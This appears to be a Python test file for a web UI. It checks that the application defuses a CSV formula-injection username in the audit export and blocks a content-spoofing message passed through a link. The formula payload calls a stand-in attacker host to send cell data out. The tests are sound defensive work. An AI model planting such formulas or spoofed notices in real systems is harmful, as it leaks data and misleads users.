"""Attacks on the web UI by an outsider and by insiders of each role, each a test that
the UI refuses or defuses it."""

import csv
import io

from tests.web.conftest import csrf_of

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")  # what a spreadsheet runs
FORMULA = '=HYPERLINK("http://attacker.example/"&A1,"open")'


def cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def test_a_formula_typed_as_a_username_does_not_run_in_the_audit_export(ui):
    """An outsider signs in as a formula: the failure is audited under that name, and the
    privacy officer's export must not hand it to a spreadsheet as a formula."""
    c = ui.client()
    page = c.get("/ui/sign-in")
    c.post(
        "/ui/sign-in", data={"username": FORMULA, "password": "x" * 12, "csrf": csrf_of(page.text)}
    )
    export = ui.sign_in("cdo.privacy").get("/ui/audit/export.csv")
    assert export.status_code == 200
    found = cells(export.text)
    assert "'" + FORMULA in found
    assert not [c for c in found if c.startswith(FORMULA_STARTS)]


def test_a_link_cannot_put_words_on_the_linkage_page(ui):
    # The attack (content spoofing): the notice after a decision was read from the
    # address, so a link sent to a steward showed any text on a Crosswalk page.
    c = ui.sign_in("cdo.linkage")
    spoof = "your session has ended: call 555-0100 to restore it"
    page = c.get("/ui/linkage", params={"decided": spoof}).text
    assert "555-0100" not in page
    forged = c.get("/ui/linkage", params={"decided": spoof, "mac": "0" * 64}).text
    assert "555-0100" not in forged
